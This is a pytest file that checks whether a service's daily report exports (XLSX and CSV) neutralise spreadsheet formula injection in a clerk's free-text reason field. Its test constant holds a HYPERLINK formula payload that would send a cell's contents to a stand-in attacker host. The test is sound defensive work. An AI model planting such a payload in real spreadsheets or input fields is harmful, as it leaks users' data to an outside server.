"""A clerk's free text in a manager's report stays text: no live formula in XLSX, none in CSV."""

from __future__ import annotations

import csv
import io

import httpx
from openpyxl import load_workbook

EVIL = '=HYPERLINK("http://evil.example/?x="&A1,"点击")'


def test_a_reason_that_looks_like_a_formula_is_text_in_xlsx_and_csv(server_factory, sqlite_url):
    srv = server_factory(sqlite_url)
    kiosk = {"Authorization": f"Bearer {srv.tokens['kiosk']}"}
    clerk, manager = srv.login("clerk1"), srv.login("manager1")
    with httpx.Client(base_url=srv.url, timeout=30) as c:
        assert c.post("/api/halls/demo/tickets", json={"services": ["tax-general"]}, headers=kiosk).status_code == 201
        for action, body in (
            ("open", {}),
            ("call-next", {}),
            ("start", {}),
            ("finish", {"result": "unresolved", "reason": EVIL}),
        ):
            r = c.post(f"/api/halls/demo/windows/26/{action}", json=body, headers=clerk)
            assert r.status_code == 200, (action, r.text)
        day = c.get("/healthz").json()["now"][:10]
        x = c.get("/api/halls/demo/reports/day", params={"day": day, "format": "xlsx"}, headers=manager)
        assert x.status_code == 200, x.text
        sheet = load_workbook(io.BytesIO(x.content))["未办成原因"]
        reasons = [row for row in sheet.iter_rows(min_row=2) if row[2].value == EVIL]
        assert reasons, [[cell.value for cell in row] for row in sheet.iter_rows()]
        assert reasons[0][2].data_type == "s"  # "f" would be a formula the spreadsheet runs
        r = c.get("/api/halls/demo/reports/day", params={"day": day, "format": "csv"}, headers=manager)
        assert r.status_code == 200
        cells = [cell for row in csv.reader(io.StringIO(r.content.decode("utf-8-sig"))) for cell in row]
        assert any("HYPERLINK" in cell for cell in cells)
        assert not any(cell.startswith(("=", "+", "-", "@", "\t", "\r")) for cell in cells if "HYPERLINK" in cell)
